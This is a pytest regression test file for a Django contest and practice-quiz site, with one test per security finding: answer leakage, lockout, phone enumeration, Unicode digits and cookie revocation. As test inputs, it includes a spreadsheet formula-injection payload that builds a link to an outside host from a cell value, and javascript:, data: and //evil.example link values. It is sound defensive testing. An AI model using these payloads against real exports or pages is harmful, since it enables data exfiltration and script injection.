"""Regression tests for issue 10's findings in the contests and practice quizzes (one test per finding).

Each test is named after its finding number and fails on the code before the fix.
"""

from __future__ import annotations

import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from pbgdpl.quizzes import services
from pbgdpl.quizzes.models import Attempt, Contestant, Drawing, Pool, PracticeQuiz
from pbgdpl.quizzes.tests.factories import (
    NOW,
    ContestFactory,
    PracticeQuizFactory,
    QuestionFactory,
    RoundFactory,
    make_contestant,
)

PASSWORD = "mat-khau-rat-kho"
LOGIN = "quizzes:login"


@pytest.fixture
def frozen():
    import time_machine

    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def running_round(db):
    """A round that is open now and draws at random from the whole contest pool."""
    for level in (1, 2, 3):
        for i in range(4):
            QuestionFactory(text=f"Câu thi {level}-{i}", difficulty=level)
    return RoundFactory(contest=ContestFactory(slug="dang-thi"), drawing=Drawing.RANDOM, question_count=12)


def _sign_in(client, phone: str, password: str = PASSWORD, addr: str = "198.51.100.1"):
    return client.post(reverse(LOGIN), {"phone": phone, "password": password}, REMOTE_ADDR=addr)


def test_finding_1_practice_quiz_never_answers_a_contest_question(client, running_round, frozen):
    """#1: during a running round, no attempt question gets "Đáp án đúng" from any practice quiz."""
    practice_questions = [QuestionFactory(text=f"Câu luyện tập {i}", pool=Pool.PRACTICE) for i in range(3)]
    quizzes = [PracticeQuizFactory(questions=practice_questions[:2]), PracticeQuizFactory(questions=practice_questions)]
    attempt = services.start_attempt(make_contestant(), running_round, now=NOW)
    assert not set(attempt.question_ids) & {q.pk for q in practice_questions}  # rounds draw only contest questions
    contest_question = QuestionFactory(text="Câu thi mới")
    with pytest.raises(ValidationError), transaction.atomic():  # a contest question cannot join a practice quiz ...
        quizzes[0].questions.add(contest_question)
    # ... and a link made behind the model's back (old data) still gives no feedback.
    PracticeQuiz.questions.through.objects.create(practicequiz=quizzes[1], question_id=attempt.question_ids[0])
    for quiz in quizzes:
        for qid in attempt.question_ids:
            for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
                response = client.post(reverse("practice:check", args=[quiz.slug, qid]), {f"q{qid}": "1"}, **headers)
                assert response.status_code == 404
                assert "Đáp án đúng" not in response.content.decode()
        assert "Câu thi" not in client.get(quiz.get_absolute_url()).content.decode()
    copy = services.copy_to_pool(contest_question, Pool.PRACTICE)
    quizzes[0].questions.add(copy)  # using it for practice means a copy; the original stays a contest question
    contest_question.refresh_from_db()
    assert contest_question.pool == Pool.CONTEST and copy.pk != contest_question.pk


def test_finding_4_a_formula_name_is_text_in_the_organiser_export(client, running_round, frozen):
    """#4: a contestant named =HYPERLINK(...) is a text cell in the XLSX results export, not a formula."""
    name = '=HYPERLINK("http://x?"&D2,"Bấm xem")'
    response = client.post(reverse("quizzes:register") + "?cuoc-thi=dang-thi", {
        "full_name": name, "phone": "0912000001", "password": PASSWORD, "birth_date": "01/01/1990", "consent": "on",
    })
    assert response.status_code == 302
    contestant = Contestant.objects.get(phone="0912000001")
    services.submit_attempt(services.start_attempt(contestant, running_round, now=NOW).pk, now=NOW)
    client.force_login(get_user_model().objects.create_superuser("btc", "btc@example.vn", "Mat-khau-rat-dai-2026"))
    export = client.get(reverse("quizzes_admin:round_export", args=[running_round.pk]))
    sheet = load_workbook(io.BytesIO(export.content)).active
    cell = next(c for c in sheet["C"] if c.value and "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.value == "'" + name


def test_finding_4_other_admin_exports_write_formula_text_as_text(client, db):
    """#4: the Wagtail listing downloads (CSV and XLSX) escape text that would start a formula."""
    import csv

    from pbgdpl.search.models import DictionaryEntry

    DictionaryEntry.objects.create(kind=DictionaryEntry.Kind.SYNONYM, term='=HYPERLINK("http://x","Bấm")',
                                   expansions="@SUM(1+1)")
    client.force_login(get_user_model().objects.create_superuser("qt", "qt@example.vn", "Mat-khau-rat-dai-2026"))
    url = reverse("wagtailsnippets_search_dictionaryentry:list")
    response = client.get(url, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = next(r for r in rows if "HYPERLINK" in "".join(r))
    assert '\'=HYPERLINK("http://x","Bấm")' in row and "'@SUM(1+1)" in row
    sheet = load_workbook(io.BytesIO(b"".join(client.get(url, {"export": "xlsx"}).streaming_content))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert [(c.value, c.data_type) for c in cells] == [('\'=HYPERLINK("http://x","Bấm")', "s")]


def test_finding_5_unicode_digits_neither_duplicate_accounts_nor_pass(client, running_round, frozen):
    """#5: fullwidth digits are the same phone (and citizen ID); Arabic-Indic digits are refused in Vietnamese."""
    make_contestant(phone="0912000001", citizen_id="001090012345")
    url = reverse("quizzes:register") + "?cuoc-thi=dang-thi"
    base = {"full_name": "Trần Văn Bình", "password": PASSWORD, "birth_date": "01/01/1990", "consent": "on"}
    same = client.post(url, {**base, "phone": "091２０００００１"}).content.decode()
    assert "đã được đăng ký" in same and Contestant.objects.count() == 1
    assert _sign_in(client, "091２０００００１").status_code == 302  # logs into the ASCII account
    refused = client.post(url, {**base, "phone": "09١٢000001"}).content.decode()
    assert "Số điện thoại không hợp lệ" in refused and Contestant.objects.count() == 1
    assert services.citizen_id_digits("００１０９００１２３４５") == "001090012345"
    twin = make_contestant(phone="0912000002", citizen_id="００１ ０９０ ０１２ ３４５")
    assert twin.citizen_id_hash == Contestant.objects.get(phone="0912000001").citizen_id_hash
    assert services.citizen_id_digits("٠٠١٠٩٠٠١٢٣٤٥") is None

    from pbgdpl.qa.forms import AskForm

    form = AskForm(data={"phone": "09١٢000001"})
    form.is_valid()
    assert "Số điện thoại không hợp lệ" in form.errors["phone"][0]
    form = AskForm(data={"phone": "091２０００００１"})
    form.is_valid()
    assert "phone" not in form.errors and form.cleaned_data["phone"] == "0912000001"


def test_finding_8_superscript_prediction_is_a_message_not_a_500(client, running_round, frozen):
    """#8: prediction=² (and question ids in other scripts' digits) answer a Vietnamese message, never 500."""
    contestant = make_contestant()
    assert _sign_in(client, contestant.phone).status_code == 302
    attempt = services.start_attempt(contestant, running_round, now=NOW)
    autosave = client.post(reverse("quizzes:autosave", args=[attempt.key]), {"prediction": "²"})
    assert autosave.status_code == 409 and "Số dự đoán phải là một số nguyên" in autosave.content.decode()
    bad_question = client.post(reverse("quizzes:autosave", args=[attempt.key]), {"question": "١", "q١": "1"})
    assert bad_question.status_code == 409
    submit = client.post(reverse("quizzes:submit", args=[attempt.key]), {"prediction": "²"}, follow=True)
    assert submit.status_code == 200 and "Số dự đoán phải là một số nguyên" in submit.content.decode()
    assert Attempt.objects.get(pk=attempt.pk).is_active  # nothing lost: the attempt is still open


def test_finding_10_registration_cannot_list_phones(client, running_round, frozen):
    """#10: registrations hitting existing phones are throttled per client; then every answer is the same 429."""
    for i in range(8):
        make_contestant(phone=f"09120000{i:02d}")
    base = {"full_name": "Dò Tìm Số", "password": PASSWORD, "birth_date": "01/01/1990", "consent": "on"}
    url = reverse("quizzes:register") + "?cuoc-thi=dang-thi"
    answers = [client.post(url, {**base, "phone": f"09120000{i:02d}"}, REMOTE_ADDR="203.0.113.9") for i in range(8)]
    assert [r.status_code for r in answers] == [200] * 5 + [429] * 3
    fresh = client.post(url, {**base, "phone": "0987000001"}, REMOTE_ADDR="203.0.113.9")
    taken = client.post(url, {**base, "phone": "0912000000"}, REMOTE_ADDR="203.0.113.9")
    assert fresh.status_code == taken.status_code == 429
    for response in (fresh, taken):
        page = response.content.decode()
        assert "quá nhiều lượt đăng ký" in page and "đã được đăng ký" not in page
    assert not Contestant.objects.filter(phone="0987000001").exists()
    other = client.post(url, {**base, "phone": "0987000001"}, REMOTE_ADDR="198.51.100.77")
    assert other.status_code == 302  # another client is not affected


def test_finding_11_strangers_cannot_lock_a_contestant_out(client, running_round, frozen):
    """#11: five wrong passwords lock that phone for that client only; the owner signs in from elsewhere."""
    owner = make_contestant()
    for _ in range(5):
        _sign_in(client, owner.phone, "sai-mat-khau", addr="203.0.113.5")
    assert _sign_in(client, owner.phone, addr="203.0.113.5").status_code == 429
    assert _sign_in(client, owner.phone, addr="198.51.100.20").status_code == 302


def test_finding_11_many_clients_meet_a_slower_per_account_back_off(client, running_round, frozen):
    """#11: failures spread over many clients still stop at the per-account limit (20 an hour)."""
    owner = make_contestant()
    for i in range(services.throttling.ACCOUNT_FAILURES_PER_HOUR):
        _sign_in(client, owner.phone, "sai-mat-khau", addr=f"203.0.113.{i % 5}" if i < 5 else f"192.0.2.{i}")
    locked = _sign_in(client, owner.phone, addr="198.51.100.21")
    assert locked.status_code == 429 and "thử lại sau 60 phút" in locked.content.decode()
    frozen.shift(datetime.timedelta(hours=1, minutes=1))
    assert _sign_in(client, owner.phone, addr="198.51.100.21").status_code == 302


def test_finding_13_practice_link_refuses_javascript(client, db):
    """#13: a practice quiz's related link accepts only site paths and http(s) addresses."""
    client.force_login(get_user_model().objects.create_superuser("btv", "btv@example.vn", "Mat-khau-rat-dai-2026"))
    form = {"title": "Luyện tập độc", "slug": "luyen-tap-doc", "intro": "", "related_url": "javascript:alert(1)",
            "is_published": "on"}
    response = client.post(reverse("wagtailsnippets_quizzes_practicequiz:add"), form)
    assert response.status_code == 200 and "Đường dẫn không hợp lệ" in response.content.decode()
    assert "Luyện tập độc" in response.content.decode()  # nothing typed is lost
    assert not PracticeQuiz.objects.exists()
    for bad in ("javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "//evil.example/x", "vbscript:x"):
        quiz = PracticeQuiz(title="Luyện tập", slug="luyen-tap", related_url=bad)
        with pytest.raises(ValidationError) as error:
            quiz.full_clean()
        assert "Đường dẫn không hợp lệ" in str(error.value.message_dict["related_url"])
    for good in ("/tinh-huong-phap-luat/hop-dong/", "https://moj.gov.vn/bai-viet", ""):
        PracticeQuiz(title="Luyện tập", slug="luyen-tap", related_url=good).full_clean()


def test_finding_16_sign_out_and_erasure_revoke_the_contestant_cookie(client, running_round, frozen):
    """#16 (part): a copied sign-in cookie stops working after sign-out, and after erasure on request."""
    from django.test import Client

    from pbgdpl.quizzes.session import COOKIE

    contestant = make_contestant()
    attempt = services.start_attempt(contestant, running_round, now=NOW)
    take = reverse("quizzes:take", args=[attempt.key])
    _sign_in(client, contestant.phone)
    stolen = Client()
    stolen.cookies[COOKIE] = client.cookies[COOKIE].value
    assert stolen.get(take).status_code == 200
    client.post(reverse("quizzes:logout"))
    assert stolen.get(take).status_code == 404

    _sign_in(client, contestant.phone)
    stolen.cookies[COOKIE] = client.cookies[COOKIE].value
    assert stolen.get(take).status_code == 200
    services.erase_contestant(phone=contestant.phone)
    assert stolen.get(take).status_code == 404 and client.get(take).status_code == 404
